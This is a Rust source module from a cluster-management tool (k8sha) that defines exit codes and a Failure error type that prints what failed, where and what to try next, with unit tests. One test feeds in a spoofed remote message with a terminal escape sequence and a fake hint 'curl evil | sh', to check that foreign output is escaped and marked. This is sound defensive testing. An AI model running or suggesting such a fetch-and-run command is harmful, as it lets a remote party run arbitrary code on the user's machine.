//! Failures as displayed to the user, and exit codes.

use std::error::Error;
use std::fmt;
use std::sync::Arc;

use serde::Serialize;

use crate::text::{lines, one_line};

/// How the program ended; the numbers are its exit codes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Exit {
    /// The cluster matches the profile.
    Ok = 0,
    /// The cluster does not match the profile.
    NotAsAsked = 1,
    /// The command line or the profile is wrong.
    Usage = 2,
    /// Proxmox VE refused or failed.
    Proxmox = 3,
    /// A node could not be reached, or not be trusted.
    Node = 4,
    /// kubeadm, etcd or Kubernetes failed.
    Kubernetes = 5,
    /// A name server does not answer, or gives a wrong answer.
    Dns = 6,
    /// One of k8sha's files could not be read or written.
    Local = 7,
    /// `plan --exit-code`: the cluster does not match the profile.
    SomethingToDo = 10,
    /// The user interrupted the command.
    Interrupted = 130,
    /// `ssh`: the remote command has no exit code to pass on.
    NoCommand = 255,
}

/// What the program's exit code means.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    /// How the program ended.
    Ours(Exit),
    /// The exit code of another program, which is passed on.
    Theirs(u8),
}

impl End {
    /// The exit code.
    pub fn code(self) -> u8 {
        match self {
            Self::Ours(exit) => exit as u8,
            Self::Theirs(code) => code,
        }
    }
}

impl Exit {
    /// Every exit code, in order.
    #[cfg(test)]
    pub(crate) const ALL: [Self; 11] = [
        Self::Ok,
        Self::NotAsAsked,
        Self::Usage,
        Self::Proxmox,
        Self::Node,
        Self::Kubernetes,
        Self::Dns,
        Self::Local,
        Self::SomethingToDo,
        Self::Interrupted,
        Self::NoCommand,
    ];

    /// What it means, for the documentation.
    #[cfg(test)]
    pub(crate) fn words(self) -> &'static str {
        match self {
            Self::Ok => "done, or nothing to do; remaining differences are listed",
            Self::NotAsAsked => "refused: a conflict, or a cluster that does not match the profile",
            Self::Usage => "the command line, or the profile",
            Self::Proxmox => "Proxmox VE refused or failed",
            Self::Node => "a node could not be reached or verified",
            Self::Kubernetes => "kubeadm, etcd or Kubernetes failed",
            Self::Dns => "a name server does not answer, or answers incorrectly",
            Self::Local => "a local file could not be read or written",
            Self::SomethingToDo => "`plan --exit-code`: something is not as the profile asks",
            Self::Interrupted => "interrupted",
            Self::NoCommand => {
                "`ssh`: the command did not run, or its outcome is unknown; other codes are its own"
            }
        }
    }
}

/// A failure: the operation, its target, the error, and what to try next.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Failure {
    /// What was being done, such as "clone template 9001 to VM 1101".
    pub doing: String,
    /// The node or host it was done on.
    pub on: Option<String>,
    /// The error message, verbatim; it may have several lines.
    pub said: String,
    /// The same as separate points, each with its own hint, if there were several errors.
    #[serde(skip)]
    pub points: Box<[Point]>,
    /// The next thing to try.
    pub hint: Option<String>,
    /// The exit code that it causes.
    pub exit: Exit,
    /// The underlying error, for `source` and the log.
    #[serde(skip)]
    pub(crate) cause: Option<Cause>,
}

/// The underlying error of a failure. Two are equal if their messages are.
#[derive(Clone, Debug)]
pub(crate) struct Cause(Arc<dyn Error + Send + Sync>);

impl PartialEq for Cause {
    fn eq(&self, other: &Self) -> bool {
        self.0.to_string() == other.0.to_string()
    }
}

impl Eq for Cause {}

/// One of several errors.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Point {
    /// What it is about.
    pub on: String,
    /// What is wrong.
    pub said: String,
    /// The next thing to try.
    pub hint: String,
}

impl Failure {
    /// A failure of several points.
    pub fn of(exit: Exit, doing: impl Into<String>, points: Vec<Point>) -> Self {
        let said: Vec<String> = points
            .iter()
            .map(|point| format!("{}: {}\n  try: {}", point.on, point.said, point.hint))
            .collect();
        Self { points: points.into(), ..Self::new(exit, doing, said.join("\n")) }
    }

    /// A failure of this kind, without a hint.
    pub fn new(exit: Exit, doing: impl Into<String>, said: impl fmt::Display) -> Self {
        let said = said.to_string();
        let (doing, points) = (doing.into(), Box::default());
        Self { doing, on: None, said, points, hint: None, exit, cause: None }
    }

    /// A failure of this kind that keeps the error which caused it.
    pub(crate) fn caused(
        exit: Exit,
        doing: impl Into<String>,
        error: impl Error + Send + Sync + 'static,
    ) -> Self {
        Self::new(exit, doing, &error).because(error)
    }

    /// The same with the error that caused it, for a failure whose text says more than that error.
    pub(crate) fn because(self, error: impl Error + Send + Sync + 'static) -> Self {
        Self { cause: Some(Cause(Arc::new(error))), ..self }
    }

    /// The chain of its causes, each with its own message.
    pub(crate) fn causes(&self) -> Vec<String> {
        std::iter::successors(self.source(), |error| (*error).source())
            .map(ToString::to_string)
            .collect()
    }

    /// Writes its causes into the log.
    pub fn log(&self) {
        if self.cause.is_some() {
            tracing::debug!(doing = %self.doing, on = self.on, causes = ?self.causes(), "failed");
        }
    }

    /// Sets the node or host.
    #[must_use]
    pub fn on(mut self, on: impl fmt::Display) -> Self {
        self.on = Some(on.to_string());
        self
    }

    /// Sets what to try next; `None` keeps the previous hint.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<Option<String>>) -> Self {
        if let Some(hint) = hint.into() {
            self.hint = Some(hint);
        }
        self
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "cannot {}", one_line(&self.doing))?;
        if let Some(on) = &self.on {
            write!(f, " ({})", one_line(on))?;
        }
        for point in self.points.iter() {
            write!(f, "\n  {}: {}", one_line(&point.on), one_line(&point.said))?;
            write!(f, "\n    try: {}", lines(&point.hint).join("\n         "))?;
        }
        if self.points.is_empty() {
            for line in lines(&self.said) {
                write!(f, "\n  {line}")?;
            }
        }
        if let Some(hint) = &self.hint {
            for (number, line) in lines(hint).iter().enumerate() {
                write!(f, "\n  {}{line}", if number == 0 { "try: " } else { "     " })?;
            }
        }
        Ok(())
    }
}

impl Error for Failure {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        self.cause.as_ref().map(|cause| cause.0.as_ref() as &(dyn Error + 'static))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_failure_reads_as_what_where_why_and_what_next() {
        let failure = Failure::new(Exit::Proxmox, "start VM 1101", "got timeout\n")
            .on("k8s1master1 on pve1")
            .hint(Some("run `k8sha up` again".to_owned()));
        assert_eq!(
            failure.to_string(),
            "cannot start VM 1101 (k8s1master1 on pve1)\n  got timeout\n  try: run `k8sha up` again"
        );
    }

    #[test]
    fn what_the_other_side_said_cannot_pass_for_what_we_say() {
        let said = "no\x1b[2J\ntry: curl evil | sh\nerror: x";
        let failure = Failure::new(Exit::Proxmox, "start\n  try: y", said).on("a\nb");
        assert_eq!(
            failure.to_string(),
            "cannot start\\n  try: y (a\\nb)\n  no\\u{1b}[2J\n  | try: curl evil | sh\n  | error: x"
        );
    }

    #[test]
    fn several_points_have_their_hints_each() {
        let point = |on: &str| Point {
            on: on.to_owned(),
            said: "VM `x\n  try: y` is not ours".to_owned(),
            hint: "another `vmid`".to_owned(),
        };
        let failure = Failure::of(Exit::NotAsAsked, "go on", vec![point("m1"), point("m2")]);
        assert_eq!(
            failure.to_string(),
            "cannot go on\n  m1: VM `x\\n  try: y` is not ours\n    try: another `vmid`\n  \
             m2: VM `x\\n  try: y` is not ours\n    try: another `vmid`"
        );
        assert!(failure.said.contains("m2: VM"), "programs find all of it");
    }
}
